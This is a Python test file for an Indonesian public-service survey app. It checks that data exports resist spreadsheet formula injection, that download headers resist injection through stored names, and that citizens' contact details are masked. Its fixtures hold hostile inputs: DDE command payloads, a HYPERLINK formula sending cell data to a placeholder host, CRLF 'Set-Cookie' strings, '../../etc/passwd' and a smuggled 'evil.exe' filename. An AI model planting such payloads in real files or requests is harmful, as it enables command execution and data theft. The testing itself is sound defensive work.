"""Every export keeps text as text, every download's header survives any stored name, and no
contact a citizen typed leaves the unit's inbox: not on /hasil, not in the API, not in an export.

Stored values are set directly (DESIGN.md §7a: every page tolerates whatever is already stored,
whichever way it got there).
"""

import csv
import io
import re
import urllib.parse
from datetime import date

import openpyxl
import pytest
from gunicorn.http.wsgi import HEADER_VALUE_RE
from sqlalchemy import select
from werkzeug.http import parse_options_header

from analysis.report.cells import FORMULA_STARTS
from survey import attachments
from survey.models import Agency, Period, Response, ServicePoint, ServiceUnit
from tests.web.conftest import sign_in
from tests.web.test_inbox import csrf

# Text that a spreadsheet would run as a formula, from OWASP's CSV-injection page and beyond.
FORMULAS = ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
            '=HYPERLINK("http://contoh.id/?x="&A1,"Klik di sini")', "＝1+1",
            "=cmd|' /C notepad'!'A1'", "-10", "+62 812"]
EXPORTS = [f"/dasbor/unduh.{fmt}?scope={scope}&period=2025{kind}"
           for fmt in ("xlsx", "csv") for scope in ("unit:unit-sby", "national")
           for kind in ("", "&kind=responses&saran=1")]


def unit(session, slug):
    return session.scalars(select(ServiceUnit).where(ServiceUnit.slug == slug)).one()


def counted(session, slug, limit):
    return list(session.scalars(
        select(Response).join(ServiceUnit).where(ServiceUnit.slug == slug,
                                                 Response.excluded.is_(False))
        .order_by(Response.id).limit(limit)))


@pytest.fixture
def formulas(session, dataset):
    """Give unit-sby, its agency and eleven of its responses text that looks like formulas."""
    sby = unit(session, "unit-sby")
    sby.name = FORMULAS[6]
    session.get(Agency, sby.agency_id).name = FORMULAS[1]
    for text, row in zip(FORMULAS, counted(session, "unit-sby", len(FORMULAS))):
        row.service_type, row.suggestion = text, text
    session.commit()


def xlsx_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


@pytest.mark.parametrize("address", EXPORTS)
def test_no_text_becomes_a_formula_in_any_export(client, users, formulas, address):
    sign_in(client, users["admin"])
    response = client.get(address)
    assert response.status_code == 200
    expected = {FORMULAS[6], FORMULAS[1] if "national" in address and "kind" not in address
                else None} - {None}
    if "kind=responses" in address:
        expected |= set(FORMULAS)
    if address.startswith("/dasbor/unduh.xlsx"):
        cells = xlsx_cells(response.data)
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
        # XlsxWriter stores a carriage return as Excel's escape _x000D_, which Excel reads back
        # as the character and openpyxl leaves as it is.
        texts = {c.value.replace("_x000D_", "\r") for c in cells if isinstance(c.value, str)}
        assert expected <= texts  # kept as they were, as text
    else:
        fields = [field for row in csv.reader(io.StringIO(response.data.decode("utf-8-sig")))
                  for field in row]
        for field in fields:
            if field.startswith(FORMULA_STARTS):
                float(field)  # only a number may start with '-' or '+': none here is text
        assert {"'" + text for text in expected} <= set(fields)


# --- Content-Disposition -------------------------------------------------------------------

STORED_NAMES = ["ramadan–2025", "ñandú-é", "puasa😀", "a\r\nSet-Cookie:x", 'kutip"ganda',
                "x" * 40]


def assert_header_is_safe(value: str, exact: str | None = None) -> None:
    assert value.isascii() and HEADER_VALUE_RE.fullmatch(value)  # gunicorn's own test
    assert not re.search(r"[\x00-\x1f\x7f]", value)
    kind, options = parse_options_header(value)
    assert kind in ("attachment", "inline")
    fallback = re.search(r'filename="([^"]*)"', value).group(1)
    assert re.fullmatch(r"[A-Za-z0-9._-]{1,100}", fallback)
    if exact is not None:
        assert options["filename"] == exact  # werkzeug prefers filename*, as browsers do


@pytest.mark.parametrize("label", STORED_NAMES)
def test_every_download_header_survives_a_stored_period_label(client, users, session, dataset,
                                                              label):
    session.add(Period(unit_id=None, label=label, name=f"Periode {label}",
                       starts_on=date(2025, 3, 1), ends_on=date(2025, 4, 30)))
    session.commit()
    sign_in(client, users["admin"])
    quoted = urllib.parse.quote(label)
    for address in (f"/dasbor/unit/unit-sby/laporan.pdf?period={quoted}",
                    f"/dasbor/laporan.pdf?scope=national&period={quoted}",
                    *(f"/dasbor/unduh.{fmt}?scope=national&period={quoted}{kind}"
                      for fmt in ("xlsx", "csv") for kind in ("", "&kind=responses"))):
        response = client.get(address)
        assert response.status_code == 200 and response.get_data(), address
        assert_header_is_safe(response.headers["Content-Disposition"])
        exact = parse_options_header(response.headers["Content-Disposition"])[1]["filename"]
        assert label.replace("\r\n", " ") in exact  # CR and LF become a space


NAMES = ["Puskesmas Ketabang – Surabaya.pdf", "Café Layanan Ñ.xlsx", "Loket 😀.csv",
         "a\r\nSet-Cookie: sesi=1.pdf", 'nama "kutip" ganda.pdf', "x" * 400 + ".pdf", "",
         "../../etc/passwd", "日本語.pdf", "\x00\x1f\x7f.pdf", "laporan-skm-unit-sby-2025.pdf",
         "semicolon; filename=evil.exe", "percent%20.csv", "\u2028garis.pdf"]


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("inline", [False, True])
def test_the_header_of_any_name_is_ascii_and_names_the_file(name, inline):
    value = attachments.disposition(name, inline)
    assert_header_is_safe(value)
    kind, options = parse_options_header(value)
    assert kind == ("inline" if inline else "attachment")
    shown = options["filename"]
    assert not re.search(r"[\x00-\x1f\x7f-\x9f/\\]", shown) and len(shown) <= 150
    if re.fullmatch(r"[A-Za-z0-9._-]{1,100}", name):
        assert value == f'{kind}; filename="{name}"'  # a plain name is sent as it is
    if name == "Puskesmas Ketabang – Surabaya.pdf":
        assert shown == name
        assert 'filename="Puskesmas-Ketabang-Surabaya.pdf"' in value
    if len(name) > 150:
        assert shown.endswith(".pdf")  # the extension survives the cut


@pytest.mark.parametrize("kind", ["poster.pdf", "qr.svg", "qr.png"])
def test_poster_downloads_have_a_safe_header(client, users, session, dataset, kind):
    sby = unit(session, "unit-sby")
    point = ServicePoint(unit_id=sby.id, name="Loket Ñ – 😀\r\n\"A\"", token="tok-aman-1")
    session.add(point)
    session.commit()
    sign_in(client, users["admin"])
    response = client.get(f"/admin/units/unit-sby/points/{point.id}/{kind}")
    assert response.status_code == 200
    assert_header_is_safe(response.headers["Content-Disposition"])


# --- Contacts never leave the inbox ---------------------------------------------------------

RAW = "Petugas judes. WA saya 0812/3456/7890 atau budi [at] gmail [dot] com, @budi_santoso"
LEAKS = ("3456", "7890", "budi", "gmail")


@pytest.fixture
def contact_case(session, dataset):
    """Give a counted unit-sby response of 2025 a suggestion full of contact details."""
    row = counted(session, "unit-sby", 1)[0]
    row.suggestion = RAW
    session.commit()
    return row.id


def test_the_public_page_shows_only_the_text_a_person_approved(client, users, session,
                                                               contact_case):
    sign_in(client, users["unit"])
    address = f"/dasbor/unit/unit-sby/kotak-masuk/{contact_case}"
    page = client.get(address)
    offered = re.search(r'<textarea[^>]*name="suggestion"[^>]*>\s*([^<]*)</textarea>',
                        page.text).group(1)
    assert offered == ("Petugas judes. WA saya [disamarkan] atau [disamarkan], [disamarkan]")
    # The staff member removes a name the filter cannot know and adds a phone number by mistake:
    # the number is hidden again when saved.
    approved = "Petugas judes (Pak Joko). Hubungi +62 812-3456-7890"
    response = client.post(f"{address}/jawaban-publik", data={
        "csrf_token": csrf(client, address), "answer": "Petugas kami tegur.",
        "suggestion": approved})
    assert response.status_code == 303
    public = client.get("/hasil/unit-sby?period=2025-S1").text + client.get("/hasil/unit-sby").text
    assert "Petugas judes (Pak Joko). Hubungi [disamarkan]" in public
    assert "Petugas kami tegur." in public
    assert not any(leak in public for leak in LEAKS)


def test_an_answer_published_without_approved_text_shows_no_citizen_text(client, users, session,
                                                                         contact_case):
    sign_in(client, users["unit"])
    address = f"/dasbor/unit/unit-sby/kotak-masuk/{contact_case}"
    client.post(f"{address}/jawaban-publik", data={
        "csrf_token": csrf(client, address), "answer": "Sudah ditindaklanjuti.",
        "suggestion": ""})
    public = client.get("/hasil/unit-sby").text
    assert "Sudah ditindaklanjuti." in public and "Petugas judes" not in public


def test_no_contact_reaches_the_api_or_a_scope_export(client, users, session, contact_case):
    sign_in(client, users["admin"])
    for address in ["/api/v1/units/unit-sby/ikm?period=2025", "/api/v1/units/unit-sby/trend",
                    "/api/v1/aggregate?scope=national&period=2025&group_by=unit",
                    *(f"/dasbor/unduh.{fmt}?scope={scope}&period=2025&kind=responses&saran=1"
                      for fmt in ("csv", "xlsx") for scope in ("national", "region:35",
                                                               "unit:unit-sby"))]:
        response = client.get(address)
        assert response.status_code == 200, address
        if address.startswith("/dasbor/unduh.xlsx"):
            body = " ".join(str(c.value) for c in xlsx_cells(response.data))
        else:
            body = response.data.decode("utf-8-sig")
        assert not any(leak in body for leak in LEAKS), address
        if "saran=1" in address:
            assert "Petugas judes. WA saya [disamarkan]" in body
